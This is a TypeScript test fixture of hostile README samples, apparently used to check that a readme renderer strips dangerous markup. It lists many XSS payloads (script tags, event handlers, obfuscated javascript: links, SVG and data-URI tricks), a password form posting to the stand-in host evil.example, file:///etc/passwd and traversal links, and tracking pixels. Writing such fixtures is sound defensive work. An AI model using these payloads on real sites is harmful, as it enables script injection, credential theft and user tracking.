import type { ReadmeKind } from './readme-kind.ts';

/** Readmes that attack whoever renders them; every alert says which part got through. */
export const hostileReadmes: Partial<Record<ReadmeKind, string>> = {
  'hostile-script': `# Scripts

<script>alert('script')</script>
<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>
<scr<script>ipt>alert('nested')</scr</script>ipt>
<img src="x" onerror="alert('onerror')">
<a href="#" onclick="alert('onclick')">click</a>
<body onload="alert('onload')">
<details open ontoggle="alert('ontoggle')"><summary>toggle</summary></details>
<iframe srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>
<object data="data:text/html,<script>alert('object')</script>"></object>
<embed src="https://evil.example/x.swf">
<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></noscript>
<math><mtext><table><mglyph><style><img src=x onerror=alert('mglyph')></style></mglyph></table></mtext></math>
<template><script>alert('template')</script></template>
<meta http-equiv="refresh" content="0;url=https://evil.example">
<base href="https://evil.example/">
<link rel="import" href="https://evil.example/x.html">
`,
  'hostile-style': `# Styles

<style>body { display: none } @import url(https://evil.example/x.css);</style>
<div style="position:fixed;inset:0;z-index:99999;background:#fff url(https://evil.example/track.png)">covers the page</div>
<p class="stamp number" id="search">borrows the page's own classes and ids</p>
<p style="background:url(javascript:alert('css'))">css</p>
<font color="red" size="7">big</font>
<table background="https://evil.example/bg.png"><tr><td>background</td></tr></table>
<img src="https://evil.example/huge.png" width="99999" height="99999">
<marquee>moves</marquee>
`,
  'hostile-form': `# Forms

<form action="https://evil.example/steal" method="post">
  <input name="password" type="password" autofocus onfocus="alert('onfocus')">
  <button formaction="javascript:alert('formaction')">Log in</button>
</form>
<input type="image" src="https://evil.example/track.png">
<textarea></textarea><select><option>x</option></select>
<isindex action="javascript:alert('isindex')">
<form id="x"></form><button form="x" formaction="https://evil.example">outside</button>
`,
  'hostile-svg': `# SVG

<svg onload="alert('svg onload')"><script>alert('svg script')</script></svg>
<svg><a xlink:href="javascript:alert('xlink')"><text y="20">link</text></a></svg>
<svg><foreignObject><iframe src="javascript:alert('foreign')"></iframe></foreignObject></svg>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PHNjcmlwdD5hbGVydCgndXNlJyk8L3NjcmlwdD48L3N2Zz4=#x"/></svg>
<svg><animate onbegin="alert('onbegin')" attributeName="x" dur="1s"></svg>
<svg><style>* { display: none }</style></svg>
![svg](data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIG9ubG9hZD0nYWxlcnQoImRhdGEiKScvPg==)
<math href="javascript:alert('math')">x</math>
`,
  'hostile-links': `# Links

[javascript](javascript:alert('link'))
[encoded](java&#115;cript:alert('encoded'))
[tab](java&#09;script:alert('tab'))
[case](JaVaScRiPt:alert('case'))
[data](data:text/html,<script>alert('data')</script>)
[vbscript](vbscript:msgbox('vb'))
[file](file:///etc/passwd)
[climbs](../../../../../../etc/passwd)
[protocol-relative](//evil.example/x)
[backslash](/\\\\evil.example/x)
![image](javascript:alert('image'))
<a href=" javascript:alert('space')">space</a>
<a href="&#x6A;avascript:alert('entity')" target="_top">entity</a>
<javascript:alert('autolink')>
[reference]: javascript:alert('reference')
[reference]
`,
  'hostile-tracking': `# Tracking

![pixel](https://evil.example/pixel.gif?package=hostile)
<img src="https://evil.example/1.gif" srcset="https://evil.example/2.gif 2x">
<picture><source srcset="https://evil.example/3.gif"><img src="//evil.example/4.gif"></picture>
<video src="https://evil.example/v.mp4" poster="https://evil.example/5.gif" autoplay></video>
<audio src="https://evil.example/a.mp3" autoplay></audio>
<link rel="preload" href="https://evil.example/6.gif" as="image">
<a href="https://evil.example" ping="https://evil.example/ping">ping</a>
<img src="https://127.0.0.1:1/local.png"> <img src="/api/v1/sync">
<a href="/logout">Log out</a> <img src="?q=1">
`,
};
